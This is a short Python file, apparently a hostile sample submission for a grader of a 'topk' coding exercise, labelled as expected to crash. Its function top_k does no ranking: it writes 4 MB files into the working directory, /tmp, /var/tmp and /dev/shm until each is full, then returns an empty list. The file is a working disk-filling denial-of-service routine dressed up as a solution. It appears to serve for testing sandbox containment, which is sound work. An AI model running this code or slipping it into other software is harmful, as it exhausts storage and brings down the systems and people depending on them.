"""fills every place that can be written to with files, until there is no room

Kata: topk
Naive: breaks
Verdict: WRONG_ANSWER CRASHED
"""

import itertools
import os


def top_k(events, k):
    for place in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):
        for number in itertools.count():
            try:
                with open(f"{place}/hostile-{number}", "wb") as file:
                    file.write(bytes(4 << 20))
            except OSError:
                break
    return []
